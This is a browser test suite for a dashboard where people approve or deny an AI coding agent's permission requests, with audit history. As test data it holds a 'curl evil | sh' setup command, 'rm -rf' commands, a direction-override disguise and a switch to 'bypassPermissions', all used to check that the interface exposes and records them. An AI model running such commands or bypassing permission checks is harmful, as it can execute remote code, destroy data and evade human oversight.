import { expect, test } from "bun:test";
import { AgentScene, ask, doing } from "../support/agent-scene.ts";
import { DESK, PHONE, withBrowser } from "../support/browser.ts";
import { writeAudit } from "../support/database.ts";
import { intercept } from "../support/intercept.ts";
import { beSeen } from "../support/seen.ts";

const browser = withBrowser();

/** Stands in for the agent's side: keeps every answer, and goes on working when it may. */
async function takeAnswers(scene: AgentScene, mayGoOn?: Promise<void>) {
  const taken: unknown[] = [];
  let gone = 0;
  let onGone = () => {};
  await intercept(scene.tab.page, "**/api/tasks/*/session/answer", async (route) => {
    const request = route.request();
    taken.push(request.postDataJSON());
    await mayGoOn;
    const [, id = ""] = /tasks\/([^/]+)/.exec(request.url()) ?? [];
    await scene.tell({ id }, doing("working"));
    await route.fulfill({ status: 204 });
    gone += 1;
    onGone();
  });
  return {
    taken,
    /** The card moves on before its answer is there. */
    async arrived(count = 1) {
      while (gone < count) {
        const { promise, resolve } = Promise.withResolvers<void>();
        onGone = resolve;
        await promise;
      }
      return taken;
    },
  };
}

const COMMAND = "npm test && \\\n  rm -rf coverage";
const LINES = Array.from({ length: 200 }, (_, i) => `echo ${i}`);

test("a allows what the card asks, by its id, and the card moves on at once", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab } = scene;
  const seen = Promise.withResolvers<void>();
  const answers = await takeAnswers(scene, seen.promise);
  const request = ask({ detail: COMMAND });
  await scene.add("wants", doing("permission", { asks: request }));
  await tab.card("wants").getByText("rm -rf coverage").waitFor();
  expect(await tab.card("wants").getByRole("button", { name: "Always", exact: true }).count()).toBe(0);
  await beSeen(tab);
  await tab.card("wants").focus();
  await tab.press("a");
  await tab.expectState("wants", "Working");
  seen.resolve();
  expect(await answers.arrived()).toEqual([{ ask: request.id, decision: "allow" }]);
  await tab.button("1 needs you").waitFor({ state: "detached" });
});

test("what a card cuts is not allowed there: its button and its key lead to all of it, and only then allow", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/WebSocket|4404/);
  const answers = await takeAnswers(scene);
  const wide = `npm test -- --grep '${"login ".repeat(150)}' && rm -rf ./build/cache`;
  const long = ask({
    summary: "echo 0…",
    detail: LINES.join("\n"),
    always: "Bash(echo *), for this session",
  });
  await scene.add(
    "turned",
    doing("permission", {
      asks: ask({ summary: "npm test", detail: "npm test #\u202e hs\nrm אבג 12 build" }),
    }),
  );
  await scene.add(
    "wide",
    doing("permission", { asks: ask({ summary: `${wide.slice(0, 199)}…`, detail: wide }) }),
  );
  await scene.add("long", doing("permission", { asks: long }));
  const button = (title: string, name: string) => tab.card(title).getByRole("button", { name });
  await tab.card("turned").getByText("npm test #<U+202E> hs").waitFor();
  expect(await tab.card("turned").getByText("rm אבג 12 build").evaluate(isInOrder)).toBe(true);
  await button("turned", "Allow").waitFor();
  await button("wide", "Review…").waitFor();
  await button("long", "Review…").waitFor();
  await tab.card("long").getByText("196 more lines").waitFor();
  expect(await button("wide", "Allow").count()).toBe(0);
  expect(await button("long", "Allow").count()).toBe(0);
  expect(await button("long", "Always").count()).toBe(0);
  await tab.resize({ width: 1440, height: 420 });
  await tab
    .card("turned")
    .locator("pre")
    .evaluate((text) => {
      const scroller = text.closest("[data-scroller]");
      const above = text.getBoundingClientRect().top - (scroller?.getBoundingClientRect().top ?? 0);
      scroller?.scrollBy({ top: above + 8 });
    });
  await button("turned", "Review…").waitFor();
  await tab.resize(DESK);
  await tab.card("turned").evaluate((card) => card.closest("[data-scroller]")?.scrollTo({ top: 0 }));
  await button("turned", "Allow").waitFor();
  await beSeen(tab);

  await tab.card("long").focus();
  await tab.press("a");
  const request = tab.panel().getByRole("region", { name: "Full request" });
  await request.getByText("echo 199").waitFor();
  const more = tab.panel().getByRole("button", { name: "Show more" });
  await more.waitFor();
  expect(await tab.panel().getByRole("button", { name: "Always" }).count()).toBe(0);
  await beSeen(tab);
  while (await more.isVisible()) {
    await tab.press("a");
    await beSeen(tab);
    expect(answers.taken).toEqual([]);
  }
  await tab.panel().getByText("Always: Bash(echo *), for this session").waitFor();
  await tab.panel().getByRole("button", { name: "Always", exact: true }).waitFor();
  await tab.press("a");
  await tab.expectState("long", "Working");
  expect(await answers.arrived()).toEqual([{ ask: long.id, decision: "allow" }]);

  await button("wide", "Review…").click();
  await tab.panel().getByText("rm -rf ./build/cache").waitFor();
  await tab.panel().getByRole("button", { name: "Allow" }).click();
  await tab.expectState("wide", "Working");
});

test("a key pressed the instant a request comes up answers nothing", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab } = scene;
  const answers = await takeAnswers(scene);
  const task = await scene.add("wants", doing("working"));
  await tab.card("wants").focus();
  // The page itself presses the key in the frame after the request is drawn.
  await tab.page.evaluate(() => {
    const press = (key: string) =>
      document.activeElement?.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
    const watcher = new MutationObserver(() => {
      if (document.querySelector("[data-ask]") === null) return;
      watcher.disconnect();
      requestAnimationFrame(() => {
        press("a");
        press("d");
        document.querySelector<HTMLElement>("[data-ask] button")?.click();
        document.body.dataset.pressed = "";
      });
    });
    watcher.observe(document.body, { subtree: true, childList: true });
  });
  const request = ask();
  await scene.tell(task, doing("permission", { asks: request }));
  await tab.page.locator("body[data-pressed]").waitFor();
  await tab.expectAnnouncement("This request just appeared.");
  await tab.expectState("wants", "Needs permission");
  expect(await tab.page.getByRole("textbox", { name: "What to tell the agent" }).count()).toBe(0);
  expect(answers.taken).toEqual([]);

  await beSeen(tab);
  await tab.press("a");
  await tab.expectState("wants", "Working");
  expect(await answers.arrived()).toEqual([{ ask: request.id, decision: "allow" }]);
});

test("d opens a field for a reason: Escape goes back, Enter denies with it", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab } = scene;
  const answers = await takeAnswers(scene);
  const request = ask();
  await scene.add("wants", doing("permission", { asks: request }));
  await tab.expectState("wants", "Needs permission");
  await beSeen(tab);
  await tab.card("wants").focus();
  const field = tab.card("wants").getByRole("textbox", { name: "What to tell the agent" });
  await tab.press("d");
  await field.waitFor();
  await tab.press("Escape");
  await field.waitFor({ state: "detached" });
  await tab.expectFocus("wants");
  await tab.press("d");
  await tab.type("Use pnpm");
  await tab.press("Shift+Enter");
  await tab.type("not npm.");
  await tab.press("Enter");
  await tab.expectState("wants", "Working");
  await tab.expectFocus("wants");
  expect(await answers.arrived()).toEqual([
    { ask: request.id, decision: "deny", message: "Use pnpm\nnot npm." },
  ]);
});

test("always is offered only with what it allows; what can't be answered here leads to the terminal", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/WebSocket|4404/);
  const answers = await takeAnswers(scene);
  const request = ask({ always: "npm test in /srv/api, for this session" });
  await scene.add("always", doing("permission", { asks: request }));
  await scene.add("terminal", doing("permission", { asks: ask({ canAnswer: false }) }));
  await tab.card("always").getByText("Always: npm test in /srv/api, for this session").waitFor();
  await tab.expectState("terminal", "Needs permission");
  await beSeen(tab);
  await tab.card("always").getByRole("button", { name: "Always", exact: true }).click();
  await tab.expectState("always", "Working");
  await tab.expectFocus("always");
  expect(await answers.arrived()).toEqual([{ ask: request.id, decision: "always" }]);

  expect(await tab.card("terminal").getByRole("button", { name: "Allow" }).count()).toBe(0);
  await tab.card("terminal").getByRole("button", { name: "Answer in the terminal" }).click();
  await tab.panel().getByText("Answer it in the terminal below.").waitFor();
});

test("when someone else answered first it clears quietly and says so; a denial in words is not lost unseen", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/status of 409/);
  const task = await scene.add("wants", doing("permission", { asks: ask() }));
  await tab.expectState("wants", "Needs permission");
  await beSeen(tab);
  scene.write(task, doing("working", { updatedAt: new Date().toISOString() }));
  await tab.card("wants").focus();
  await tab.press("a");
  await tab.toast("Already answered").waitFor();
  await tab.expectState("wants", "Working");

  await scene.tell(task, doing("permission", { asks: ask() }));
  await tab.expectState("wants", "Needs permission");
  await beSeen(tab);
  await tab.press("d");
  await tab.type("Please don't");
  await scene.tell(task, doing("working"));
  await tab.toast("Already answered elsewhere. Your message wasn't sent.").waitFor();
  await tab.toast("Please don't").waitFor();
});

test("an answer that the server refuses or never gets puts the request back, with a way to try again", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/status of 500/);
  const error = { code: "internal", message: "The agent could not be reached." };
  await intercept(tab.page, "**/session/answer", (route) => route.fulfill({ status: 500, json: { error } }));
  await scene.add("wants", doing("permission", { asks: ask() }));
  await tab.expectState("wants", "Needs permission");
  await beSeen(tab);
  await tab.card("wants").getByRole("button", { name: "Allow" }).click();
  await tab.toast("Couldn't send the answer").waitFor();
  await tab.expectState("wants", "Needs permission");
  await tab.page.unroute("**/session/answer");
  const answers = await takeAnswers(scene);
  await tab.button("Retry").click();
  await tab.expectState("wants", "Working");
  expect(await answers.arrived()).toHaveLength(1);
});

const QUESTION = {
  question: "Which database?",
  header: "Database",
  multiple: false,
  options: [
    { label: "SQLite", description: "One file" },
    { label: "Postgres", description: null },
  ],
};

test("a question's options are buttons; several questions are answered together in the panel", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/WebSocket|4404/);
  const answers = await takeAnswers(scene);
  const one = ask({ tool: "AskUserQuestion", questions: [QUESTION] });
  await scene.add("one", doing("question", { asks: one }));
  const both = ask({
    tool: "AskUserQuestion",
    questions: [QUESTION, { ...QUESTION, question: "Which tools?", multiple: true }],
  });
  await scene.add("both", doing("question", { asks: both }));
  await tab.expectState("both", "Has a question");
  await beSeen(tab);
  await tab.card("one").getByRole("button", { name: "Postgres" }).click();
  await tab.expectState("one", "Working");
  await beSeen(tab);

  await tab.card("both").getByRole("button", { name: "Answer…" }).click();
  const form = tab.panel().getByRole("form", { name: "Questions" });
  const first = form.getByRole("group", { name: "Which database?" });
  const second = form.getByRole("group", { name: "Which tools?" });
  await first.getByRole("radio", { name: "Postgres" }).click();
  await first.getByRole("radio", { name: "SQLite" }).click();
  const send = tab.panel().getByRole("button", { name: "Send answers" });
  expect(await send.isDisabled()).toBe(true);
  // In sight however long the questions are.
  const top = async (name: string) => (await tab.panel().getByRole("button", { name }).boundingBox())?.y;
  expect(await top("Send answers")).toBe(await top("Dismiss"));
  await second.getByRole("checkbox", { name: "Postgres" }).click();
  await second.getByRole("checkbox", { name: "SQLite" }).click();
  await second.getByRole("textbox").fill("DuckDB");
  await send.click();
  await tab.expectState("both", "Working");
  expect(await answers.arrived(2)).toEqual([
    { ask: one.id, decision: "allow", answers: { "Which database?": "Postgres" } },
    {
      ask: both.id,
      decision: "allow",
      answers: { "Which database?": "SQLite", "Which tools?": "SQLite, Postgres, DuckDB" },
    },
  ]);
});

test("what was said to a request stays until it is answered: beside another card, and when it is refused", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor } = scene;
  visitor.expectConsole(/WebSocket|4404|status of 500/);
  const error = { code: "internal", message: "The agent could not be reached." };
  await intercept(tab.page, "**/session/answer", (route) => route.fulfill({ status: 500, json: { error } }));
  await scene.add("other", doing("permission", { asks: ask() }));
  const questions = [QUESTION, { ...QUESTION, question: "Which tools?" }];
  await scene.add("asks", doing("question", { asks: ask({ tool: "AskUserQuestion", questions }) }));
  await tab.expectState("asks", "Has a question");
  await tab.card("asks").getByRole("button", { name: "Answer…" }).click();
  const form = tab.panel().getByRole("form", { name: "Questions" });
  const [first, second] = [form.getByRole("textbox").first(), form.getByRole("textbox").last()];
  await first.fill("DuckDB");
  await tab.card("other").getByText("npm test").click();
  await form.waitFor({ state: "detached" });
  await tab.card("asks").getByRole("button", { name: "Answer…" }).click();
  expect(await first.inputValue()).toBe("DuckDB");
  await second.fill("None");
  await beSeen(tab);
  await tab.panel().getByRole("button", { name: "Send answers" }).click();
  await tab.toast("Couldn't send the answer").waitFor();
  expect([await first.inputValue(), await second.inputValue()]).toEqual(["DuckDB", "None"]);
  const notifications = tab.page.getByRole("region", { name: "Notifications" });
  await notifications.getByRole("button", { name: "Dismiss" }).click();
  await tab.toast("Couldn't send the answer").waitFor({ state: "detached" });

  await tab.card("other").focus();
  await tab.press("d");
  await tab.type("Use pnpm");
  await tab.press("Enter");
  await tab.toast("Couldn't send the answer").waitFor();
  await tab.expectState("other", "Needs permission");
  await tab.card("other").focus();
  await tab.press("d");
  const reason = tab.card("other").getByRole("textbox", { name: "What to tell the agent" });
  expect(await reason.inputValue()).toBe("Use pnpm");
});

test("on a phone a card opens on what it asks, in reach of a thumb, and the page on the card that needs one", async () => {
  await using scene = await AgentScene.open(browser, { screen: PHONE });
  const { tab, visitor } = scene;
  visitor.expectConsole(/WebSocket|4404/);
  const answers = await takeAnswers(scene);
  const request = ask({ detail: LINES.join("\n") });
  const other = ask({ detail: "npm run lint" });
  await scene.add("short", doing("permission", { asks: other }));
  await tab.page.getByRole("tab", { name: "Active", selected: true }).waitFor();
  const task = await scene.add("wants", doing("permission", { asks: request }));
  await beSeen(tab);
  await tab.card("short").getByRole("button", { name: "Allow" }).tap();
  await tab.expectState("short", "Working");
  expect(await tab.card("wants").getByRole("button", { name: "Allow" }).count()).toBe(0);
  await tab.card("wants").getByText("196 more lines").tap();

  const panel = tab.panel();
  const bottomOf = async (name: string) => {
    const box = await panel.getByRole("button", { name }).boundingBox();
    return (box?.y ?? 0) + (box?.height ?? 0);
  };
  const isAskAlone = async () => {
    await panel.getByRole("button", { name: "Show more" }).waitFor();
    expect(await panel.locator("[data-terminal]").count()).toBe(0);
    expect(await bottomOf("Show more")).toBeGreaterThan(PHONE.height * 0.8);
    expect(await bottomOf("Show more")).toBeLessThan(PHONE.height);
  };
  await isAskAlone();
  await panel.getByRole("tab", { name: "Terminal" }).tap();
  await panel.locator("[data-terminal]").waitFor();
  await panel.getByRole("button", { name: "Close" }).tap();

  await tab.page.goto(scene.server.url);
  await panel.getByRole("heading", { name: "wants" }).waitFor();
  await isAskAlone();
  const full = panel.getByRole("region", { name: "Full request" });
  await full.getByText("echo 199").scrollIntoViewIfNeeded();
  await beSeen(tab);
  await panel.getByRole("button", { name: "Allow" }).tap();
  await panel.locator("[data-terminal]").waitFor();
  expect(await answers.arrived(2)).toEqual([
    { ask: other.id, decision: "allow" },
    { ask: request.id, decision: "allow" },
  ]);
  await scene.tell(task, doing("permission", { asks: ask() }));
  await panel.getByRole("button", { name: "Allow" }).waitFor();
  await tab.waitFor(() => document.querySelector("[data-terminal]") === null, null);

  // A form that is longer than the phone: alone, beside the terminal, and above the phone's keyboard.
  const questions = Array.from({ length: 4 }, (_, index) => ({
    ...QUESTION,
    header: "מסד",
    question: `${index}: which database, given all that was said about the others before?`,
    options: ["SQLite", "Postgres", "DuckDB", "MySQL"].map((label) => ({ label, description: "A database" })),
  }));
  await scene.tell(task, doing("question", { asks: ask({ tool: "AskUserQuestion", questions }) }));
  const inSight = async () => {
    await panel.getByRole("form", { name: "Questions" }).waitFor();
    for (const name of ["Send answers", "Dismiss"]) {
      const button = panel.getByRole("button", { name, exact: true });
      expect(await button.evaluate(isInSight), name).toBe(true);
    }
  };
  const words = await panel.locator("legend").first().locator("bdi, span").all();
  const lefts = await Promise.all(words.map(async (one) => (await one.boundingBox())?.x));
  expect(lefts).toEqual(lefts.toSorted((a = 0, b = 0) => a - b));
  const SMALL = { width: 390, height: 480 };
  await inSight();
  await tab.resize(SMALL);
  await panel.getByRole("textbox").last().fill("Another");
  await inSight();
  await tab.resize(PHONE);
  await panel.getByRole("tab", { name: "Terminal" }).tap();
  await panel.locator("[data-terminal]").waitFor();
  await inSight();
  await panel.getByRole("textbox").nth(3).fill("Another one");
  await tab.resize(SMALL);
  await inSight();
});

/** Each letter stands right of the one before, or on a line below. */
function isInOrder(element: Element): boolean {
  const letters = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  const boxes: DOMRect[] = [];
  while (letters.nextNode()) {
    const text = letters.currentNode as Text;
    for (let at = 0; at < text.length; at += 1) {
      const range = document.createRange();
      range.setStart(text, at);
      range.setEnd(text, at + 1);
      boxes.push(range.getBoundingClientRect());
    }
  }
  return boxes.every((box, index) => {
    const before = boxes[index - 1];
    return before === undefined || box.top >= before.bottom || box.left >= before.right - 1;
  });
}

/** Whole, and under nothing else. */
function isInSight(element: Element): boolean {
  const { left, right, top, bottom } = element.getBoundingClientRect();
  const isInside = left >= 0 && top >= 0 && right <= innerWidth && bottom <= innerHeight;
  const corners = [left + 2, right - 2].flatMap((x) => [top + 2, bottom - 2].map((y) => [x, y] as const));
  return isInside && corners.every(([x, y]) => element.contains(document.elementFromPoint(x, y)));
}

test("what a script answers or changes is told on the card, and kept in the task's history", async () => {
  await using scene = await AgentScene.open(browser);
  const { tab, visitor, server } = scene;
  visitor.expectConsole(/status of 409/); // there is no worktree
  const task = await scene.add("job", doing("working"));
  await scene.add("other", doing("working"));
  const shown = ask({ summary: "rm -rf build", detail: "rm -rf build\n\n# Clean" });
  const who = { by: "token", name: "a script with the token", login: null } as const;
  const { id: taskId, projectId } = task;
  writeAudit(server, { who, taskId, projectId, action: "answer", detail: { ask: shown, decision: "allow" } });
  await tab.page.reload();
  const line = tab.card("job").locator("[data-answered]");
  await line.getByText("rm -rf build").waitFor();
  expect(await line.textContent()).toMatch(/^Allowed · a script with the token · /);
  expect(await tab.card("other").locator("[data-answered]").count()).toBe(0);

  await server.patch(`/api/tasks/${taskId}`, { agentOptions: { permissionMode: "bypassPermissions" } });
  await line.getByText(/bypassPermissions/).waitFor();
  expect(await line.textContent()).toMatch(
    /^Agent options changed · a script with the token · .* · and 1 more/,
  );
  // Also while it asks, and after it has ended.
  await scene.tell(task, doing("permission", { asks: ask() }));
  await tab.expectState("job", "Needs permission");
  await line.waitFor();
  await scene.tell(task, { sessionStatus: "failed", asks: null, activity: null, sessionError: "Gone." });
  await tab.expectState("job", "Failed");
  await line.click();
  const list = tab.panel().getByRole("region", { name: "Answers and changes" });
  await list.getByText("# Clean").waitFor();
  expect(await list.getByRole("listitem").allTextContents()).toEqual([
    expect.stringMatching(/^Agent options changed.*none → .*bypassPermissions/),
    expect.stringMatching(/^Allowed.*rm -rf build/),
  ]);
  await line.waitFor({ state: "detached" });
  await tab.page.reload();
  await list.getByText("# Clean").waitFor();
  expect(await line.count()).toBe(0);

  await server.patch(`/api/projects/${projectId}`, { setupCommand: "curl evil | sh" });
  const board = tab.page.getByRole("status", { name: "What others did" });
  await board.getByText("none → curl evil | sh").waitFor();
  await board.getByRole("button", { name: "Show in History" }).click();
  const all = tab.page.getByRole("region", { name: "Answers, changes and sign-ins" });
  await all.getByText("Setup command changed").waitFor();
  for (let index = 0; index < 60; index += 1)
    writeAudit(server, {
      who,
      taskId,
      projectId,
      action: "agent",
      detail: { before: "claude", after: "codex" },
    });
  await tab.page.reload();
  await all.getByRole("button", { name: "Show earlier ones" }).click();
  await all.getByText("Setup command changed").waitFor();
  expect(await all.getByRole("button", { name: "Show earlier ones" }).count()).toBe(0);
});
